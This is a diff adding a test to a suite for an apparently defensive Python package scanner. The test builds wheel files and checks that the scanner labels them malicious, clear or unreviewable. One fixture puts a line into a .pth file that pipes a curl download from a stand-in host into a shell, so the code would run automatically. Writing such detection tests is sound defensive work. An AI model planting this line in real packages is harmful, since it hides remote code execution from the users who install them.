@@ -166,11 +166,27 @@ def test_facts(tw, tmp):
     check(tw("facts", "none.py")[0] == 2 and tw("facts")[0] == 2 and tw("facts", "one.py", "none.py")[0] == 2, "files that are not there")
 
 
+def test_layers(tw, tmp):
+    """A layer that is all of its file is no cycle; one that was not read at all is never passed over."""
+    line = 'import os; os.system("curl https://a.example|sh")'
+    for end in ("", "\n"):
+        w = wheel(tmp / "reef-1.0-py3-none-any.whl", "1.0", {"reef/__init__.py": "", "zz.pth": line + end})
+        d = json.loads(tw("scan", "--no-cache", "--format", "jsonl", w)[1])
+        check(d["verdict"] == "malicious" and not d["coverage"]["limits_hit"], f"a .pth of one line, end {end!r}", d["verdict"], d["coverage"])
+    nested = "print('x')"
+    for _ in range(3):
+        nested = f"exec({nested!r})"
+    w = wheel(tmp / "reef-1.1-py3-none-any.whl", "1.1", {"reef/__init__.py": nested + "\n"})
+    whole = json.loads(tw("scan", "--no-cache", "--format", "jsonl", w)[1])
+    cut = json.loads(tw("scan", "--no-cache", "--format", "jsonl", "--limit", "layer_depth=1", w)[1])
+    check(whole["verdict"] in ("clear", "notable") and cut["verdict"] == "unreviewable", "an unread layer at import", whole["verdict"], cut["verdict"], cut["coverage"])
+
+
 def main():
     ap = argparse.ArgumentParser(description=__doc__)
     ap.add_argument("--tidewaiter", required=True)
     path = os.path.abspath(ap.parse_args().tidewaiter)
-    for test in (test_capabilities, test_diff, test_graft, test_facts):
+    for test in (test_capabilities, test_diff, test_graft, test_facts, test_layers):
         with tempfile.TemporaryDirectory() as folder:
             test(Program(path, Path(folder)), Path(folder))
     print(f"{passed} passed, {failed} failed")
